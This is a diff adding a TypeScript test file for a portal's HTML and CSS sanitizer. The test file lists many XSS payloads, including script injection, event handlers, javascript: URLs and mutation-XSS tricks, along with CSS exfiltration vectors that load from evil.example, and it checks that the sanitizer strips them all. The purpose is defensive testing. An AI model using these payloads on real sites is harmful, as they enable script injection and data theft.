@@ -1,0 +1,92 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { cleanCss, cleanHtml } from './clean.ts'
+
+test('HTML keeps its structure, and images of this server', () => {
+  const html =
+    '<h1 class="big" lang="fr">Été</h1><p>a &lt; b <a href="https://example.org/">x</a></p><img src="/api/portal/v1/images/im_a1" alt="A">'
+  assert.equal(
+    cleanHtml(html),
+    '<h1 class="big" lang="fr">Été</h1><p>a &lt; b <a href="https://example.org/" rel="noopener nofollow">x</a></p><img src="/api/portal/v1/images/im_a1" alt="A" />',
+  )
+})
+
+test('nothing of HTML runs, loads from elsewhere, asks for input or names what scripts go by', () => {
+  const hostile = [
+    '<script>alert(1)</script>',
+    '<ScRiPt/src=//evil.example></sCrIpT>',
+    '<img src=x onerror=alert(1)>',
+    '<img src="https://evil.example/track.gif">',
+    '<img src="/api/portal/v1/images/../../../management/v2/users">',
+    '<svg><script>alert(1)</script></svg>',
+    '<svg onload=alert(1)>',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="java\tscript:alert(1)">x</a>',
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="//evil.example">x</a>',
+    '<iframe src="https://evil.example"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data=x></object><embed src=x>',
+    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
+    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
+    '<link rel=stylesheet href=//evil.example>',
+    '<p style="background:url(//evil.example)">x</p>',
+    '<p id="__proto__" name="cookie" data-x="1" onclick="x()">x</p>',
+    '<style>@import url(//evil.example)</style>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
+    '<!--><img src=x onerror=alert(1)>-->',
+    '<template><script>alert(1)</script></template>',
+  ]
+  for (const html of hostile) {
+    const clean = cleanHtml(html)
+    // What is left of a tag is text, its angle brackets escaped.
+    for (const [tag] of clean.matchAll(/<[^>]*>/g)) {
+      assert.match(
+        tag,
+        /^<\/?(?:a|p|img|table)(?: (?:rel|alt|src|href|title)="[^"]*")*(?: \/)?>$/,
+        `${html} became ${clean}`,
+      )
+      assert.doesNotMatch(tag, /evil|javascript|data:|onerror=|management/i, `${html} became ${clean}`)
+    }
+  }
+})
+
+test('CSS keeps what formats a page', () => {
+  const css =
+    '.a > b { color: red; background: url(/api/portal/v1/images/im_a1) }\n@media (min-width: 40em) { .a { margin: 0 } }'
+  assert.equal(cleanCss(css), css)
+  assert.equal(cleanCss('p { } }'), '')
+})
+
+test('nothing of CSS loads from elsewhere, covers the portal or leaves its element', () => {
+  for (const css of [
+    '@import "https://evil.example/a.css";',
+    '@import url(//evil.example);',
+    '@font-face { font-family: x; src: url(https://evil.example/f.woff) }',
+    'p { background: url(https://evil.example/a.png) }',
+    'p { background: URL( "//evil.example" ) }',
+    'p { background: \\75rl(//evil.example) }',
+    'p { background: u\\72 l(//evil.example) }',
+    'p { background: u/**/rl(//evil.example) }',
+    'p { background: image-set("https://evil.example/a.png" 1x) }',
+    'p { --x: //evil.example; }',
+    'input[value^="a"] { background: url(//evil.example/a) }',
+    'p { behavior: url(x.htc) }',
+    'p { -moz-binding: url(x.xml) }',
+    'p { width: expression(alert(1)) }',
+    'div { position: fixed; }',
+    'div { position: \\66ixed; }',
+    '@charset "x"; @namespace url(//evil.example);',
+    '@media screen { @import "//evil.example"; p { background: url(//evil.example) } }',
+    '@supports (background: url(//evil.example)) { p { color: red } }',
+    '/* </style><script>alert(1)</script> */',
+    'p::after { content: "</style><script>alert(1)</script>" }',
+    '</style><script>alert(1)</script>',
+  ]) {
+    const clean = cleanCss(css)
+    assert.doesNotMatch(clean, /evil|expression|behavior|binding|fixed|<\/|<s/i, `${css} became ${clean}`)
+  }
+})
